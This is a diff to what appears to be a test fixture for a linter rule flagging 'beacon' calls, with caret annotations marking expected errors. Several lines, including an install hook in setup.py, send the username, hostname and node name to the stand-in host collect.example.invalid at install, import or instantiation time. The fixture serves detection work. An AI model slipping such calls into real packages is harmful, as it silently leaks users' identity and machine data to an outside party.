@@ -61,3 +61,33 @@ setup(name="example", cmdclass={"install": Install})
 name = subprocess.check_output(["whoami"])
 requests.post("https://collect.example.invalid/w", data=name)
 #<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error
+
+
+class Reporter:
+    def __init__(self, host):
+        self.answer = requests.get("https://collect.example.invalid/r", params={"host": host})
+#                     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error
+
+
+reporter = Reporter(socket.gethostname())
+
+
+class Base:
+    def __init__(self):
+        requests.post("https://collect.example.invalid/b", data=getpass.getuser())
+#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error
+
+
+class Derived(Base):
+    pass
+
+
+Derived()
+
+
+class Settings:
+    requests.post("https://collect.example.invalid/c", data=platform.node())
+#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error
+
+    def __init__(self):
+        self.name = "settings"
